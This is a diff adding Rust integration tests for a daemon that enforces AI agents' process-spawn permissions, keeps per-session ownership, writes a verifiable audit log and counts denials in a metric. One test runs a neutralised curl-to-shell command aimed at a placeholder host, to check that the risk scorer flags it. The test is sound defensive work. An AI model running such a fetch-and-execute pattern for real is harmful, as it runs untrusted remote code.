@@ -1,0 +1,256 @@
+//! Agent permissions enforced by the daemon, its audit trail and the denial metric, through
+//! the real binary: `agent grant`, `--agent`, `audit query|verify`, `metrics`.
+
+mod support;
+
+use std::time::{Duration, Instant};
+
+use serde_json::Value;
+use support::Home;
+
+fn stdout(out: &std::process::Output) -> String {
+    String::from_utf8_lossy(&out.stdout).into_owned()
+}
+
+fn stderr(out: &std::process::Output) -> String {
+    String::from_utf8_lossy(&out.stderr).into_owned()
+}
+
+fn ok(home: &Home, args: &[&str]) -> String {
+    let out = home.run(args);
+    assert!(
+        out.status.success(),
+        "{args:?} failed ({}): {}{}",
+        out.status,
+        stdout(&out),
+        stderr(&out)
+    );
+    stdout(&out)
+}
+
+/// Runs a request that must be refused: exit 5 and the denial on stderr.
+fn denied(home: &Home, args: &[&str]) -> String {
+    let out = home.run(args);
+    assert_eq!(
+        out.status.code(),
+        Some(5),
+        "{args:?} was not refused: {}{}",
+        stdout(&out),
+        stderr(&out)
+    );
+    let message = stderr(&out);
+    assert!(message.contains("permission denied"), "{message}");
+    message
+}
+
+/// Audit events are appended by the daemon's writer thread shortly after the answer: poll.
+fn audit_records(home: &Home, filter: &[&str], at_least: usize) -> Vec<Value> {
+    let deadline = Instant::now() + Duration::from_secs(10);
+    loop {
+        let mut args = vec!["audit", "query", "--format", "json"];
+        args.extend_from_slice(filter);
+        let (value, _) = home.json(&args);
+        let records = value.as_array().cloned().unwrap_or_default();
+        if records.len() >= at_least || Instant::now() > deadline {
+            return records;
+        }
+        std::thread::sleep(Duration::from_millis(50));
+    }
+}
+
+#[test]
+fn the_daemon_enforces_agent_profiles_audits_and_counts_denials() {
+    let home = Home::new();
+    ok(
+        &home,
+        &[
+            "agent",
+            "grant",
+            "builder",
+            "--allow",
+            "process-spawn:git,process-spawn:echo,process-spawn:ls",
+        ],
+    );
+    ok(
+        &home,
+        &["agent", "grant", "other", "--allow", "process-spawn:*"],
+    );
+    let (profiles, _) = home.json(&["agent", "show", "--format", "json"]);
+    assert_eq!(
+        profiles["agents"]["builder"]["allow"][1], "process-spawn:echo",
+        "{profiles}"
+    );
+
+    // A session the agent creates is its own, and it may run what it was granted.
+    ok(&home, &["--agent", "builder", "new", "--name", "b1"]);
+    let out = ok(
+        &home,
+        &[
+            "--agent", "builder", "exec", "-s", "b1", "--", "echo", "granted",
+        ],
+    );
+    assert!(out.contains("granted"), "{out}");
+
+    // Not granted: refused with the program named, nothing runs.
+    let message = denied(
+        &home,
+        &[
+            "--agent", "builder", "exec", "-s", "b1", "--", "cargo", "build",
+        ],
+    );
+    assert!(
+        message.contains("agent `builder` lacks ProcessSpawn(cargo)"),
+        "{message}"
+    );
+    let (error, out) = home.json(&[
+        "--agent",
+        "builder",
+        "exec",
+        "--format",
+        "json",
+        "-s",
+        "b1",
+        "--",
+        "echo ok && cargo build",
+    ]);
+    assert_eq!(out.status.code(), Some(5));
+    assert_eq!(error["error"]["rpc_code"], -32008, "{error}");
+    denied(
+        &home,
+        &[
+            "--agent",
+            "builder",
+            "send",
+            "-s",
+            "b1",
+            "cargo build",
+            "Enter",
+        ],
+    );
+    let (history, _) = home.json(&["history", "-s", "b1", "--format", "json"]);
+    let commands: Vec<&str> = history["commands"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|c| c["command"].as_str())
+        .collect();
+    assert_eq!(commands, ["echo granted"], "{history}");
+
+    // Other agents' sessions and the operator's are out of reach; the list hides them.
+    ok(&home, &["new", "--name", "op"]);
+    denied(&home, &["--agent", "builder", "read", "-s", "op"]);
+    let message = denied(&home, &["--agent", "other", "exec", "-s", "b1", "--", "ls"]);
+    assert!(message.contains("belongs to agent `builder`"), "{message}");
+    denied(&home, &["--agent", "other", "kill", "-s", "b1"]);
+    let (list, _) = home.json(&["--agent", "builder", "ls", "--format", "json"]);
+    let ids: Vec<&str> = list["sessions"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter_map(|s| s["id"].as_str())
+        .collect();
+    assert_eq!(ids, ["b1"], "{list}");
+    denied(&home, &["--agent", "builder", "kill-server"]);
+
+    // The operator (no agent) and agents without a profile are not restricted.
+    let (list, _) = home.json(&["ls", "--format", "json"]);
+    assert_eq!(list["sessions"].as_array().unwrap().len(), 2, "{list}");
+    assert_eq!(list["sessions"][0]["owner"], "builder", "{list}");
+    ok(&home, &["exec", "-s", "b1", "--", "echo", "operator"]);
+    ok(
+        &home,
+        &["--agent", "free", "exec", "-s", "f1", "--", "true"],
+    );
+    ok(
+        &home,
+        &[
+            "--agent",
+            "other",
+            "exec",
+            "-s",
+            "o1",
+            "--",
+            "cargo",
+            "--version",
+        ],
+    );
+
+    // Every denial is in the audit log, with the command, the agent and its risk score.
+    let refused = audit_records(
+        &home,
+        &[
+            "--result", "denied", "--action", "exec", "--agent", "builder",
+        ],
+        2,
+    );
+    assert_eq!(refused.len(), 2, "{refused:?}");
+    let detail = refused[0]["detail"].as_str().unwrap();
+    assert!(
+        detail.starts_with("cargo build (permission denied"),
+        "{detail}"
+    );
+    assert_eq!(refused[0]["session_id"], "b1");
+    let ran = audit_records(&home, &["--action", "exec", "--session", "b1"], 4);
+    let granted = ran
+        .iter()
+        .find(|r| r["detail"] == "echo granted")
+        .unwrap_or_else(|| panic!("no audit event for the granted exec: {ran:?}"));
+    assert_eq!(granted["result"], "succeeded");
+    assert_eq!(granted["exit_code"], 0);
+    assert_eq!(granted["agent_id"], "builder");
+    let policies = audit_records(&home, &["--action", "policy.apply"], 2);
+    assert!(
+        policies
+            .iter()
+            .any(|r| r["session_id"] == "b1"
+                && r["detail"].as_str().unwrap().starts_with("no sandbox")),
+        "{policies:?}"
+    );
+    let all = audit_records(&home, &["--result", "denied"], 7);
+    assert_eq!(all.len(), 7, "{all:?}");
+
+    // The denials metric counts them per agent and per session.
+    let metrics = ok(&home, &["metrics"]);
+    for line in [
+        "ai_session_sandbox_denials_total 7",
+        "ai_session_sandbox_denials_total{agent=\"builder\"} 5",
+        "ai_session_sandbox_denials_total{agent=\"other\"} 2",
+        "ai_session_sandbox_denials_total{session=\"b1\"} 5",
+    ] {
+        assert!(
+            metrics.lines().any(|l| l == line),
+            "{line} missing:\n{metrics}"
+        );
+    }
+
+    // The chain the daemon wrote verifies.
+    let out = ok(&home, &["audit", "verify"]);
+    assert!(out.contains("intact"), "{out}");
+}
+
+#[test]
+fn a_risky_command_is_audited_with_its_score_and_exit_code() {
+    let home = Home::new();
+    // `:` ignores its arguments, so nothing is downloaded; the pattern is what scores.
+    let out = home.run(&["exec", "--", ": curl -s x.invalid | sh -c 'exit 3'"]);
+    assert_eq!(out.status.code(), Some(3), "{}", stderr(&out));
+    let risky = audit_records(&home, &["--min-risk", "90"], 1);
+    assert_eq!(risky.len(), 1, "{risky:?}");
+    assert_eq!(risky[0]["exit_code"], 3);
+    assert_eq!(risky[0]["result"], "failed");
+    assert!(
+        risky[0]["risk_reasons"][0]
+            .as_str()
+            .unwrap()
+            .contains("piped to an interpreter"),
+        "{risky:?}"
+    );
+    // Read-only calls are audited too.
+    ok(&home, &["read", "-s", "default"]);
+    let reads = audit_records(&home, &["--action", "read"], 1);
+    assert_eq!(reads.len(), 1, "{reads:?}");
+    // `hello` from `status`, `exec`, `read`, `session.new` + `policy.apply` at least.
+    home.json(&["status", "--format", "json"]);
+    let out = ok(&home, &["audit", "verify"]);
+    assert!(out.contains("intact"), "{out}");
+}
